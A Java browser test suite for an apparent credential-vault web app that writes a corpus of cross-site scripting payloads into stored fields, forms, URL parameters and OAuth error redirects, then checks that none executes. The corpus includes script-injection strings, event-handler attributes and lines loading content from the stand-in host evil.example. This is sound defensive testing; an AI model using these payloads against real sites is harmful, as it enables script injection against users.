package dev.latchkey.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import dev.latchkey.browser.Vault.Names;
import java.net.URI;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

/** Whatever others wrote into the vault is text on every page, and nothing of it ever runs. */
class StoredTextTest extends InBrowser {
    /** Each runs where its context is not escaped for, and is told by a dialog or a request. */
    static final List<String> CORPUS =
            List.of(
                    "<script>alert(1)</script>",
                    "<img src=x onerror=alert(1)>",
                    "\"><img src=x onerror=alert(1)>",
                    "'><img src=x onerror=alert(1)>",
                    "<svg onload=alert(1)>",
                    "</title><svg/onload=alert(1)>",
                    "</style><svg/onload=alert(1)>",
                    "</script><script>alert(1)</script>",
                    "</textarea><svg onload=alert(1)>",
                    "--><svg onload=alert(1)>",
                    "]]><svg onload=alert(1)>",
                    "\" onfocus=alert(1) autofocus=\"",
                    "' onfocus=alert(1) autofocus='",
                    "\" onmouseover=alert(1) x=\"",
                    "` onerror=alert(1) `",
                    "<body onload=alert(1)>",
                    "<details open ontoggle=alert(1)>",
                    "<video><source onerror=alert(1)>",
                    "<iframe srcdoc='<script>alert(1)</script>'>",
                    "<iframe src=javascript:alert(1)>",
                    "<a href=javascript:alert(1)>x</a>",
                    "<form action=//evil.example>",
                    "<base href=//evil.example/>",
                    "<meta http-equiv=refresh content=0>",
                    "<link rel=stylesheet href=//evil.example>",
                    "<style>@import'//evil.example'</style>",
                    "<object data=//evil.example></object>",
                    "<embed src=//evil.example>",
                    "<math><mi xlink:href=data:x>",
                    "<input autofocus onfocus=alert(1)>",
                    "<select autofocus onfocus=alert(1)>",
                    "<marquee onstart=alert(1)>",
                    "<script src=//evil.example></script>",
                    "javascript:alert(1)",
                    "${alert(1)}",
                    "{{constructor.constructor('alert(1)')()}}",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "\u202e<script>alert(1)</script>",
                    "<template><img src=x onerror=alert(1)>",
                    "<p hx-get=//evil.example hx-trigger=load>",
                    "<p hx-on:click=alert(1)>");

    /** The most characters that a manifest's name and description take. */
    private static final int LONGEST_NAME = 35;

    /** What finds elements that no template has: a text became one that is not escaped for. */
    private static final String FOREIGN =
            """
            () => [...document.querySelectorAll('*')]
                .filter(each => /^(iframe|object|embed|base|style|template|marquee|video|math)$/i.test(each.tagName)
                    || each.matches('script:not([src]), meta[http-equiv], [href*="//evil.example"], [src*="//evil.example"]')
                    || [...each.attributes].some(one => /^(on|hx-on)/i.test(one.name)
                        || /^javascript:/i.test(one.value) && /^(href|src|action|formaction)$/i.test(one.name)))
                .map(each => each.outerHTML.slice(0, 200))
            """;

    @Test
    void nothing_that_others_wrote_runs_on_the_pages_of_users_and_operators() throws Exception {
        var places = new LinkedHashMap<String, Place>();
        try (var person = chromium().person()) {
            var watch = Watch.over(person);
            var page = person.newPage();
            for (var text : CORPUS) {
                var name = text.length() > LONGEST_NAME ? text.substring(0, LONGEST_NAME) : text;
                var place =
                        vault.place(
                                new Names(
                                        text,
                                        text,
                                        name,
                                        text,
                                        text,
                                        List.of(scope(text), "read")));
                places.put(text, place);
                page.navigate(place.link());
                Inspector.awaits(page, "h1", shown(name));
                shake(page, text);
                page.click("#connect button");
                page.fill("#account", account(text));
                page.click("button[value=approve]");
                Inspector.awaits(page, "main", "Connected");
                shake(page, text);
                page.navigate(place.link());
                Inspector.awaits(page, ".accounts", account(text));
                shake(page, text);
                assertThat(watch.seen()).as(text).isEmpty();
                vault.admin("latchkey.rules.deny", Map.of("kind", "workflow", "reason", text));
                vault.admin("latchkey.enterprises.create", Map.of("name", text));
            }
            page.navigate(vault.url + "/console/sign-in");
            ConsoleTest.signIn(page, vault);
            for (var path : ConsoleTest.PAGES) {
                page.navigate(vault.url + path);
                shake(page, path);
            }
            for (var each : places.entrySet()) {
                var place = each.getValue();
                for (var path :
                        List.of(
                                place.page("app"),
                                place.page("app-manifest"),
                                place.page("app-provider"),
                                place.page("team"),
                                "/console/connections/" + place.externalTokenId())) {
                    page.navigate(vault.url + path);
                    shake(page, each.getKey());
                }
                assertThat(watch.seen()).as(each.getKey()).isEmpty();
            }
        }
    }

    @Test
    void nothing_that_is_typed_into_a_form_or_an_address_runs_where_it_is_shown_again()
            throws Exception {
        var place = vault.place(Names.usual());
        try (var person = chromium().person()) {
            var watch = Watch.over(person);
            var page = ConsoleTest.signedIn(person, vault);
            var forms = new TreeSet<String>();
            for (var path : ConsoleTest.PAGES) {
                forms.addAll(formsFrom(page, path));
            }
            for (var path : place.pages().values()) {
                forms.addAll(formsFrom(page, path));
            }
            assertThat(forms).hasSizeGreaterThan(15);
            var all = String.join(" ", CORPUS);
            for (var form : forms) {
                page.navigate(vault.url + form);
                page.evaluate(
                        """
                        all => {
                            const form = document.querySelector('main form[method=post]');
                            form.noValidate = true;
                            document.documentElement.dataset.sent = '';
                            form.querySelectorAll('input:not([type=hidden]), textarea').forEach(field => {
                                if (field.type === 'number') {
                                    field.value = '0';
                                } else if (field.type !== 'checkbox') {
                                    field.value = all;
                                }
                            });
                        }
                        """,
                        all);
                page.click("main form[method=post] button[type=submit]");
                page.waitForSelector("html:not([data-sent])");
                shake(page, form);
                assertThat(watch.seen()).as(form).isEmpty();
            }
            for (var some : List.of(CORPUS.subList(0, 20), CORPUS.subList(20, CORPUS.size()))) {
                var words = URLEncoder.encode(String.join(" ", some), StandardCharsets.UTF_8);
                for (var address :
                        List.of(
                                "/console/connections?user_id=" + words,
                                "/console/activity?app_id=" + words,
                                "/console/policies?done=" + words,
                                "/console/do/latchkey.tokens.revoke?ask=none&token_id=" + words,
                                "/console/do/latchkey.rules.deny?back=" + words,
                                "/methods?q=" + words)) {
                    page.navigate(vault.url + address);
                    shake(page, address);
                    assertThat(watch.seen()).as(address).isEmpty();
                }
            }
        }
    }

    /** The addresses of the forms that a page leads to. */
    @SuppressWarnings("unchecked")
    private List<String> formsFrom(Page page, String path) {
        page.navigate(vault.url + path);
        return (List<String>)
                page.evaluate(
                        """
                        () => [...document.querySelectorAll('main a[href*="/do/"]')]
                            .map(each => new URL(each.href).pathname)
                        """);
    }

    @Test
    void nothing_that_a_provider_says_in_an_error_runs_or_is_shown() throws Exception {
        var place = vault.place(Names.usual());
        try (var person = chromium().person()) {
            var watch = Watch.over(person);
            var page = person.newPage();
            for (var text : CORPUS) {
                page.navigate(place.link());
                page.click("#connect button");
                page.waitForURL(vault.sandbox.baseUrl() + "/**");
                page.navigate(sentBack(page.url(), text));
                Inspector.awaits(page, "main", "sent an error");
                assertThat(page.locator("main").textContent()).doesNotContain(text);
                shake(page, text);
                assertThat(watch.seen()).as(text).isEmpty();
            }
        }
    }

    /** Where a provider sends the browser that came to this address, with an error of its words. */
    private static String sentBack(String asked, String text) {
        var parameters = new HashMap<String, String>();
        for (var pair : URI.create(asked).getRawQuery().split("&", -1)) {
            var equals = pair.indexOf('=');
            parameters.put(pair.substring(0, equals), pair.substring(equals + 1));
        }
        var words = URLEncoder.encode(text, StandardCharsets.UTF_8);
        return "%s?error=%s&error_description=%s&state=%s"
                .formatted(
                        URLDecoder.decode(
                                parameters.getOrDefault("redirect_uri", ""),
                                StandardCharsets.UTF_8),
                        words,
                        words,
                        parameters.getOrDefault("state", ""));
    }

    /**
     * Moves over and clicks into the page, so that what waits for that has its chance; what is said
     * is told when an element is there that no template has.
     */
    private static void shake(Page page, String said) {
        assertThat((List<?>) page.evaluate(FOREIGN)).as(said).isEmpty();
        page.mouse().move(200, 200);
        page.mouse().move(640, 300);
        page.keyboard().press("Tab");
        // A turn of the event loop: what was to run has run.
        page.evaluate("() => new Promise(done => setTimeout(done, 0))");
    }

    // RFC 6749 §3.3 has no blanks, quotes and backslashes in a scope.
    private static String scope(String text) {
        var scope = text.replaceAll("[^\\x21\\x23-\\x5b\\x5d-\\x7e]", "");
        return scope.isEmpty() ? "x" : scope;
    }

    private static String account(String text) {
        return text.strip();
    }

    private static String shown(String name) {
        return name.strip();
    }
}
